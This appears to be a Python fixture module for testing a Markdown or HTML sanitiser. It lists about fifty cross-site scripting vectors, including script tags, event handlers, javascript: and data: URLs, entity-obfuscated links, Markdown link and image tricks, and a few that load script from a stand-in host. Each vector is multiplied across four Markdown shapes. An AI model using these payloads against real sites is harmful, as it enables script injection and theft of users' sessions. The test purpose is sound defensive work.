"""What people who mean harm write where Markdown or names are expected: shapes by vectors, 150 and more."""

VECTORS = [
    "<script>alert(1)</script>", "<ScRiPt src=//e.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "<a href=' jav\tascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//e.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href=//e.example>",
    "<style>*{background:url(javascript:alert(1))}</style>", "<p style='width:expression(alert(1))'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script>",
    "<textarea><script>alert(1)</script>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#x6A;avascript:alert(1))",
    "[x](java\nscript:alert(1))", "[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))", "![x](x\"onerror=\"alert(1))",
    "[x](https://e.example \"onmouseover=alert(1)\")",
    "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>", "[x](<javascript:alert(1)>)",
    "https://e.example/\"onmouseover=\"alert(1)", "https://e.example/<script>alert(1)</script>",
    "```\n</code></pre><script>alert(1)</script>\n```", "`</code><img src=x onerror=alert(1)>`",
]  # fmt: skip
SHAPES = ["{}", "# {}", "| a | b |\n|---|---|\n| {} | x |", "> - {}"]
HOSTILE = [shape.format(vector) for vector in VECTORS for shape in SHAPES]
